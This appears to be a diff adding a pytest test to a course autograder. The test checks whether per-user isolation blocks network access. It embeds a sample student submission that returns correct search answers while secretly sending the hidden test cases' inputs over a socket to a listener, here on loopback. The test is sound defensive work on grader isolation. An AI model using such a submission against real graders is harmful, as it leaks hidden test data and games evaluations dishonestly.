@@ -198,3 +198,59 @@ def test_hidden_boards_do_not_reach_a_later_workers_message_through_ipc(tmp_path
     boards = ["".join(map(str, arguments[0].initial)) for arguments, _ in hidden]
     shown = _why(report)
     assert not [board for board in boards if board in shown], shown
+
+
+_SENDING_BFS = '''import socket
+
+
+def my_breadth_first(problem, _seen=[]):
+    _seen.append(1)
+    if len(_seen) > 8:   # the hidden cases: sent out to the student's own machine
+        try:
+            with socket.create_connection(("127.0.0.1", PORT), timeout=5) as connection:
+                connection.sendall(repr(problem.initial).encode() + b"\\n")
+        except OSError:
+            pass
+    return _reference_bfs(problem)
+'''
+
+
+@pytest.mark.xfail(strict=True, reason="'user' isolation shares the grader's network: a worker sends the hidden "
+                                        "cases' arguments to any machine it can reach (here a listener on loopback)")
+def test_a_worker_run_as_another_user_reaches_no_network(tmp_path):
+    import socket
+    import threading
+
+    from puzzlekit.course.grader import isolation
+
+    if not isolation.usable("user"):
+        pytest.skip("'user' isolation does not work on this machine")
+    path = tmp_path / "03_uninformed_search.ipynb"
+    nbformat.write(small_chapter(), path)
+    grader = ChapterGrader(path, secret="a class's secret", cell_time_limit=60, notebook_time_limit=300,
+                           isolation="user")
+    received = []
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        server.settimeout(1)
+
+        def listen():
+            while not stop.is_set():
+                try:
+                    connection, _ = server.accept()
+                except OSError:
+                    continue
+                with connection:
+                    received.append(connection.recv(1000))
+
+        stop = threading.Event()
+        listener = threading.Thread(target=listen, daemon=True)
+        listener.start()
+        reference = _reference(path)
+        bfs = reference["my_breadth_first"].replace("def my_breadth_first(problem):", "def _reference_bfs(problem):")
+        answers = dict(reference, my_breadth_first=bfs + "\n\n" + _SENDING_BFS.replace(
+            "PORT", str(server.getsockname()[1])))
+        report = grader.grade(_submission(path, answers))
+        stop.set()
+        listener.join()
+    assert _scores(report)["my_breadth_first"] == 3, _why(report)
+    assert received == [], received
